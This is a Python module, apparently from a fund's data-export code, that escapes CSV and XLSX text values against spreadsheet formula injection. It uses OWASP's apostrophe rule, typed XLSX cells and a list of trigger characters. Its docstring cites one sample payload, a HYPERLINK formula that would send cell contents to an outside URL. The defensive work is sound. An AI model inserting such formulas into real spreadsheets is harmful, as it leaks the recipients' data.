"""What each value becomes in a partner's file: data the partner reads, never a formula that runs.

Spreadsheets run a cell that starts with `=`, `+`, `-` or `@` (some also after a leading tab, CR or
NUL): a last name typed as `=HYPERLINK("http://…/?d="&A1, …)` in the fund's systems would send the
partner's sheet elsewhere as it opens. The rule (OWASP's, for CSV injection) is decided per column kind
(`ExportColumn.kind`):

- **text** (names, address, town, e-mail, identifiers, labels, and the phone, which we store in E.164):
  in CSV a value that starts with one of those characters gets one leading apostrophe, and so does a
  value that starts with an apostrophe of its own — so "drop the first character of a text value that
  starts with an apostrophe" always gives the value back. A sign followed only by digits, spaces, dots
  and commas (`-`, `+`, `+33612345678`, `-12,5`) names no function and no cell, so it cannot be a
  formula and is written as it is: a partner reads a phone number or a dash as data. In XLSX every
  text value is a string cell set explicitly (openpyxl would make a formula of a string starting with
  `=`), and the values CSV would prefix carry Excel's own "typed with a leading apostrophe" flag
  (`quotePrefix`): the partner reads the value exactly, and the cell stays text if someone edits it.
- **date**: `dd/mm/yyyy` in CSV, a date cell shown `DD/MM/YYYY` in XLSX.
- **integer**: digits in CSV, a number cell in XLSX.

The defusedcsv package was considered: it wraps the csv module row by row (the lists stream through
pandas), has no notion of column kinds or of XLSX, rewrites `|` inside the values it prefixes and lets a
leading tab or CR through; the rule fits in these few lines instead.
"""

from __future__ import annotations

import re
from typing import TYPE_CHECKING, Any, Literal

import pandas as pd
from openpyxl.cell import WriteOnlyCell

if TYPE_CHECKING:
    from openpyxl.worksheet._write_only import WriteOnlyWorksheet

Kind = Literal["text", "date", "integer"]

APOSTROPHE = "'"
TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\0", APOSTROPHE)
"""First characters that get an apostrophe in a CSV text value (the last one so that it can be undone)."""
INERT = r"[+-][0-9 .,]*"
"""A sign then only digits, spaces, dots and commas: no name, no reference, so never a formula."""
CSV_DATE = "%d/%m/%Y"
XLSX_DATE = "DD/MM/YYYY"

_INERT = re.compile(INERT)


def needs_apostrophe(text: str) -> bool:
    """Whether a text value would be read as a formula (or starts with an apostrophe already)."""
    return text.startswith(TRIGGERS) and _INERT.fullmatch(text) is None


def csv_values(values: pd.Series, kind: Kind) -> pd.Series:
    """One column of a chunk as it is written to CSV (one call per column and chunk)."""
    if kind == "date":
        return pd.to_datetime(values).dt.strftime(CSV_DATE)
    if kind == "integer":
        return values
    risky = [isinstance(value, str) and needs_apostrophe(value) for value in values.to_numpy()]
    if not any(risky):
        return values
    return values.mask(risky, APOSTROPHE + values.where(risky, ""))


def xlsx_cell(sheet: WriteOnlyWorksheet, value: Any, kind: Kind) -> WriteOnlyCell | int | None:
    """One value as an XLSX cell of its kind: never left for openpyxl to guess, so never a formula."""
    if value is None or pd.isna(value):
        return None
    if kind == "integer":
        return int(value)
    if kind == "date":
        cell = WriteOnlyCell(sheet, value=pd.Timestamp(value).date())
        cell.number_format = XLSX_DATE
        return cell
    text = str(value)
    cell = WriteOnlyCell(sheet, value=text)
    cell.data_type = "s"
    if needs_apostrophe(text):
        cell.quotePrefix = True
    return cell
